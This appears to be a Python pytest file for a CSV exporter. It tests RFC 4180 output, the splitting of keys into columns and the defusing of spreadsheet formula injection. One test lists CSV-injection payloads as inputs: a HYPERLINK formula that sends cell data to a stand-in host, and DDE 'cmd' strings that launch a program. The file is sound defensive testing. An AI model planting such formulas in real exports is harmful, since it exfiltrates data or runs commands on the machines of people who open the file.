"""CSV: what RFC 4180 asks for, read back by Python's own reader, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.exports.rows import row

from penstock.exports.base import key_columns
from penstock.exports.csv_table import CsvTable
from penstock.ledger.rows import LedgerRow
from penstock.ledger.states import RowState
from penstock.rows import encode_key


def written(*rows: LedgerRow, key: Sequence[str] = ("id",)) -> tuple[bytes, CsvTable]:
    into = io.BytesIO()
    table = CsvTable(lambda data: into.write(data) >= 0, key)
    for one in rows:
        assert table.write([one])
    table.close()
    return into.getvalue(), table


def read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def test_a_row_is_its_key_and_what_the_new_system_said() -> None:
    data, _ = written(row("1042", "77"))

    assert data == (
        b"id,receipt,state,status,updated_at,attempts,reason\r\n"
        b"1042,77,imported,201,2026-03-01T12:00:00.250000Z,1,\r\n"
    )  # fmt: skip


def test_without_rows_the_names_of_the_columns_stand_there() -> None:
    assert written(key=("warehouse", "sku"))[0] == (
        b"warehouse,sku,receipt,state,status,updated_at,attempts,reason\r\n"
    )


@pytest.mark.parametrize(
    ("key", "cells"),
    [
        ("-5", ["-5"]),
        ("-12.50", ["-12.50"]),
        ('["north",17]', ["north", "17"]),
        ('[{"date":"2024-02-29"},{"bytes":"00ff"}]', ["2024-02-29", "00ff"]),
        ('{"datetime":"2024-02-29T12:00:00"}', ["2024-02-29T12:00:00"]),
        ('"-5"', ["-5"]),
        ('"+49301234"', ["+49301234"]),
        ('"-5+cmd"', ["'-5+cmd"]),
        ('"line\\nend, \\"quoted\\""', ['line\nend, "quoted"']),
        ('""', [""]),
    ],
)
def test_a_key_is_a_column_for_each_of_its_own(key: str, cells: list[str]) -> None:
    data, _ = written(row(key), key=("a", "b")[: len(cells)])

    assert read(data)[1][: len(cells)] == cells


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "-٣",  # a number, but not to every reader
    ],
)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    data, table = written(row(encode_key([text]), text, state=RowState.FAILED, reason=text))

    cells = read(data)[1]
    assert (cells[0], cells[1], cells[-1]) == ("'" + text,) * 3
    assert table.defused == 3


def test_nothing_and_an_empty_text_differ() -> None:
    data, _ = written(row("1", None), row("2", ""))

    assert b"\r\n1,,imported" in data
    assert b'\r\n2,"",imported' in data


@given(st.lists(st.tuples(st.text(), st.one_of(st.none(), st.text()))))
def test_whatever_the_texts_every_cell_is_read_back(pairs: list[tuple[str, str | None]]) -> None:
    texts = [
        (key.encode("utf-8", "replace").decode(), receipt and receipt.encode("utf-8", "replace").decode())
        for key, receipt in pairs
    ]
    data, _ = written(*[row(encode_key([key]), receipt) for key, receipt in texts])

    lines = read(data)[1:]
    assert len(lines) == len(texts)
    for cells, (key, receipt) in zip(lines, texts, strict=True):
        assert cells[0] in (key, "'" + key)
        assert cells[1] in (receipt or "", f"'{receipt}")
        assert not any(cell[:1] in tuple("=@\t\r\n") for cell in cells if cell)


def test_nobody_who_reads_any_more_is_told() -> None:
    assert not CsvTable(lambda _data: False, ("id",)).write([row("1")])


def test_a_key_named_like_another_column_gets_a_name_of_its_own() -> None:
    assert key_columns(("id", "Status", "key_status", "state")) == ("id", "key_Status", "key_key_status", "key_state")
